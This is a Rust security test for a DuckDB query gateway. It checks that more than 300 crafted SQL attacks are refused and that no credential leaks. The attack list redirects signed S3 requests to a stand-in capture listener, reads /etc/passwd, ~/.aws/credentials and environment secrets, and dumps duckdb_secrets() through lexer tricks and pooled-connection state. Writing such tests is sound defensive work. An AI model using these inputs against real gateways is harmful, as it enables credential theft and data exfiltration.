//! What a query-token holder can reach (issue 9), against the real binary
//! with a real S3 secret (the loopback S3/STS emulation), in the read-write
//! policy (a superset of read-only).
//!
//! Every attack of the issue, plus families of new ones generated below: URL
//! parameters on every reader, userinfo and encoded paths, lexer tricks with
//! every Unicode blank after every comment and quote form, introspection of
//! every refused function, and statements that create connection state. Each
//! must be refused (4xx). A capture listener stands where the attacks try to
//! send signed requests: the test fails on any connection to it. Every
//! issued key id, secret, session token and the base credentials are searched
//! for in every body, header and log line. Afterwards the gateway must still
//! mean what it meant: built-in names unchanged, S3 readable, secret intact.
//!
//! A process, with the base credentials in its environment (`AWS_*`, read by
//! the AWS SDK's standard chain) as many deployments run: httpfs copies those
//! variables into DuckDB's settings, and this test shows that no query
//! reaches them. An in-process gateway would share the test's environment.

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::Arc;

use crate::common::{assert_no_leaks, S3Server, Seen};
use serde_json::json;

const ADMIN: &str = "security-suite-admin-0123456789";
const SMALL: &str = "s3://duckgate-test/data/small.csv";

/// A loopback listener that counts connections: where stolen signed
/// requests would arrive.
struct Capture {
    port: u16,
    hits: Arc<AtomicUsize>,
}

async fn capture() -> Capture {
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = listener.local_addr().unwrap().port();
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    tokio::spawn(async move {
        while let Ok((sock, _)) = listener.accept().await {
            h.fetch_add(1, Ordering::SeqCst);
            drop(sock);
        }
    });
    Capture { port, hits }
}

const READERS: &[&str] = &[
    "read_parquet",
    "parquet_scan",
    "read_csv",
    "read_csv_auto",
    "read_json",
    "read_json_auto",
    "read_ndjson",
    "read_text",
    "read_blob",
    "parquet_metadata",
    "parquet_schema",
    "parquet_file_metadata",
    "parquet_kv_metadata",
    "glob",
    "sniff_csv",
];

/// The Unicode characters DuckDB's parser or a naive tokenizer may treat as
/// blanks, and a few that neither does.
const BLANKS: &[&str] = &[
    "\u{a0}", "\u{2000}", "\u{2003}", "\u{200a}", "\u{200b}", "\u{202f}", "\u{205f}", "\u{2060}",
    "\u{3000}", "\u{feff}", "\u{85}", "\u{1680}", "\u{180e}",
];

fn attacks(cap: u16, data_dir: &str) -> Vec<String> {
    let mut out: Vec<String> = Vec::new();
    // 1, 2: URL parameters that redirect signed requests, on every reader.
    let params = [
        format!("?s3_endpoint=127.0.0.1:{cap}"),
        format!("?s3_endpoint=u@127.0.0.1:{cap}&s3_url_style=vhost"),
        format!("?s3_use_ssl=false&s3_endpoint=127.0.0.1:{cap}"),
        format!("?s3_region=x&s3_endpoint=localhost:{cap}"),
    ];
    for p in &params {
        for r in READERS {
            out.push(format!("SELECT * FROM {r}('{SMALL}{p}')"));
        }
        out.push(format!("SELECT * FROM '{SMALL}{p}'"));
        out.push(format!("DESCRIBE SELECT * FROM '{SMALL}{p}'"));
        out.push(format!(
            "EXPLAIN ANALYZE SELECT * FROM read_csv('{SMALL}{p}')"
        ));
        out.push(format!("SELECT * FROM read_csv(['{SMALL}', '{SMALL}{p}'])"));
    }
    // 7 and friends: paths that leave the scope or the plain form.
    for path in [
        "s3://duckgate-test/../duckgate-other/other.csv".to_string(),
        "s3://duckgate-test/%2e%2e/duckgate-other/other.csv".into(),
        "s3://duckgate-test/data/./small.csv".into(),
        "s3://duckgate-test/data//small.csv".into(),
        "s3://duckgate-other/other.csv".into(),
        format!("s3://u@127.0.0.1:{cap}/x.csv"),
        format!("http://127.0.0.1:{cap}/x.csv"),
        format!("https://127.0.0.1:{cap}/x.csv"),
        "S3://duckgate-test/data/small.csv".into(),
        "s3a://duckgate-test/data/small.csv".into(),
        "gcs://duckgate-test/data/small.csv".into(),
        "/etc/passwd".into(),
        "file:///etc/passwd".into(),
        // 8: the gateway's own files.
        format!("{data_dir}/secrets/x"),
        format!("{data_dir}/tmp/x"),
        format!("{data_dir}/files/../secrets/x"),
        "~/.aws/credentials".into(),
        "small.csv".into(),
        // The file system CSV answers are written through.
        "duckgate-pipe://csv".into(),
        "duckgate-pipe://x".into(),
    ] {
        out.push(format!("SELECT * FROM read_csv('{path}')"));
        out.push(format!("SELECT * FROM '{path}'"));
    }
    // Computed paths: the guard checks only literals, so it refuses these.
    out.push(format!(
        "SELECT * FROM read_csv('{SMALL}' || chr(63) || 's3_endpoint=127.0.0.1:{cap}')"
    ));
    out.push(format!(
        "SELECT * FROM read_csv(concat('{SMALL}', '?s3_endpoint=127.0.0.1:{cap}'))"
    ));
    out.push(format!(
        "SELECT * FROM read_csv(replace('{SMALL}X', 'X', '?s3_endpoint=127.0.0.1:{cap}'))"
    ));
    // 3: settings and environment.
    for name in [
        "s3_secret_access_key",
        "s3_access_key_id",
        "s3_session_token",
        "s3_endpoint",
    ] {
        out.push(format!("SELECT current_setting('{name}')"));
        out.push(format!(
            "SELECT value FROM duckdb_settings() WHERE name = '{name}'"
        ));
        out.push(format!(
            "SELECT setting FROM pg_settings WHERE name = '{name}'"
        ));
    }
    out.push("SELECT getenv('AWS_SECRET_ACCESS_KEY')".into());
    // 4, 5: lexer disagreements, every blank after every comment and quote form.
    for b in BLANKS {
        out.push(format!(
            "CREATE VIEW v_{} AS SELECT /*'*/ a{b}e'\\' AS x, * FROM duckdb_secrets() --'",
            b.chars().next().unwrap() as u32
        ));
        out.push(format!(
            "SELECT /*{b}*/ secret_string FROM duckdb_secrets()"
        ));
        out.push(format!(
            "SELECT 1 --{b}\n, current_setting('s3_secret_access_key')"
        ));
        out.push(format!(
            "SELECT $q${b}$q$, * FROM which_secret('{SMALL}', 's3')"
        ));
        out.push(format!("SELECT e'\\''{b}, * FROM enable_logging('HTTP')"));
        out.push(format!(
            "SELECT \"{b}\" FROM (SELECT 1 AS \"{b}\"), enable_logging(storage := 'file', storage_path := '/tmp/x{b}')"
        ));
        out.push(format!(
            "CREATE{b}SECRET s{} (TYPE s3, KEY_ID 'x', SECRET 'y')",
            b.len()
        ));
        out.push(format!(
            "SELECT * FROM query($x${b}SELECT * FROM duckdb_secrets()$x$)"
        ));
    }
    // 6: state shared through pooled connections.
    for sql in [
        "CREATE MACRO upper(x) AS 'pwned'",
        "CREATE OR REPLACE MACRO lower(x) AS 'pwned'",
        "CREATE TEMP MACRO lower(x) AS 'pwned-temp'",
        "CREATE TEMP TABLE tt (i INT)",
        "CREATE TEMPORARY VIEW tv AS SELECT 1",
        "CREATE MACRO leak() AS TABLE SELECT * FROM duckdb_secrets()",
        "SET VARIABLE x = 1",
        "SELECT setseed(0.1)",
        "SET search_path = 'pg_catalog'",
        "SET s3_endpoint = '127.0.0.1:1'",
        "RESET s3_url_compatibility_mode",
        "USE system",
        "PREPARE p AS SELECT 1",
        "ATTACH ':memory:' AS m",
        "DETACH memory",
        "LOAD httpfs",
        "INSTALL httpfs",
        "PRAGMA enable_profiling",
        "BEGIN",
        "CHECKPOINT",
        "COPY (SELECT 1) TO '/tmp/duckgate-security-copy.csv'",
        "COPY (SELECT 1) TO 'duckgate-pipe://csv' (FORMAT csv, HEADER)",
        "EXPORT DATABASE '/tmp/duckgate-security-export'",
        "CREATE SECRET evil (TYPE s3, KEY_ID 'AKIAEVIL', SECRET 'evil', SCOPE 's3://duckgate-test/data/')",
        "CREATE OR REPLACE PERSISTENT SECRET duckgate_s3 (TYPE s3, KEY_ID 'AKIAEVIL', SECRET 'evil')",
        "DROP SECRET duckgate_s3",
        "CREATE VIEW stored_leak AS SELECT * FROM duckdb_secrets()",
        "CREATE TABLE t_default (a VARCHAR DEFAULT current_setting('s3_session_token'))",
        "INSERT INTO kept SELECT secret_string FROM duckdb_secrets()",
    ] {
        out.push(sql.to_string());
    }
    // Introspection: every function the allow-list refuses, called plainly.
    for line in include_str!("../../../src/engine/guard/functions.tsv").lines() {
        let cols: Vec<&str> = line.split('\t').collect();
        if line.starts_with('#') || cols.len() < 3 || cols[2] != "refuse" {
            continue;
        }
        let (name, kinds) = (cols[0], cols[1]);
        if kinds.contains("table") {
            out.push(format!("SELECT * FROM {name}()"));
        } else if !kinds.contains("pragma") {
            out.push(format!("SELECT {name}('x')"));
        }
    }
    out.push("SELECT * FROM duckdb_external_file_cache()".into());
    out
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
#[ignore = "tier venv: needs the test venv (Python DuckDB, the S3/STS emulation, extensions); scripts/test installs it"]
async fn a_query_token_reaches_no_credential_and_nothing_outside_its_scope() {
    let s3 = S3Server::start(&[]);
    let cap = capture().await;
    let g = s3
        .gateway(3600)
        .env("DUCKGATE_ADMIN_TOKEN", ADMIN)
        .env("DUCKGATE_POLICY", "read-write")
        .env("DUCKGATE_POOL_SIZE", 2)
        .start();
    let data_dir = g.data_dir.path().join("data").canonicalize().unwrap();
    let data_dir = data_dir.display().to_string();
    let mut seen = Seen::default();

    // Functions work before: the control case for "nothing changed".
    let before = g.query_ok("SELECT upper('a') AS u, lower('B') AS l").await;
    assert_eq!(before["rows"], json!([["A", "b"]]));
    let (status, _) = seen
        .take(
            g.query(json!({"sql": "CREATE TABLE kept (s VARCHAR)"}))
                .await,
        )
        .await;
    assert_eq!(status, 200);

    let list = attacks(cap.port, &data_dir);
    assert!(list.len() >= 300, "{} attacks", list.len());
    let mut wrong = Vec::new();
    for sql in &list {
        let (status, body) = seen.take(g.query(json!({"sql": sql})).await).await;
        if !(400..500).contains(&status) {
            wrong.push(format!("{status} {sql:?}: {body}"));
        }
    }
    assert!(
        wrong.is_empty(),
        "admitted or failed:\n{}",
        wrong.join("\n")
    );
    eprintln!("security: {} attacks, all refused with 4xx", list.len());

    // 9: one huge value (three times the 64 MiB value limit) is refused
    // before the gateway buffers it.
    let (status, body) = seen
        .take(
            g.query(json!({"sql": "SELECT repeat('x', 200000000) AS s"}))
                .await,
        )
        .await;
    assert!(
        (400..600).contains(&status) && status != 500,
        "{status} {body}"
    );
    eprintln!(
        "security: repeat('x', 200000000) answered {status} {}",
        body["type"]
    );

    // Nothing was sent where the attacks pointed. A sleep on purpose: an
    // absence is proved by waiting, here for a connection a redirected
    // read would have opened after its query was answered.
    tokio::time::sleep(std::time::Duration::from_millis(300)).await;
    assert_eq!(
        cap.hits.load(Ordering::SeqCst),
        0,
        "a request reached the capture listener"
    );

    // Nothing changed: names, the secret, S3.
    for _ in 0..4 {
        let after = g.query_ok("SELECT upper('a') AS u, lower('B') AS l").await;
        assert_eq!(after["rows"], json!([["A", "b"]]));
        let n = g
            .query_ok(&format!("SELECT count(*) AS n FROM read_csv('{SMALL}')"))
            .await;
        assert!(n["rows"][0][0].as_i64().unwrap() > 0, "{n}");
    }
    let kept = g.query_ok("SELECT count(*) FROM kept").await;
    assert_eq!(kept["rows"], json!([[0]]));
    let (status, _) = seen
        .take(g.query(json!({"sql": "SELECT * FROM tt"})).await)
        .await;
    assert_eq!(status, 400, "a temp table was created");

    // Every issued key id, secret, session token, the base credentials and
    // the admin token, in every body, header and log line.
    assert_no_leaks(&g, &s3, &seen, ADMIN).await;
}
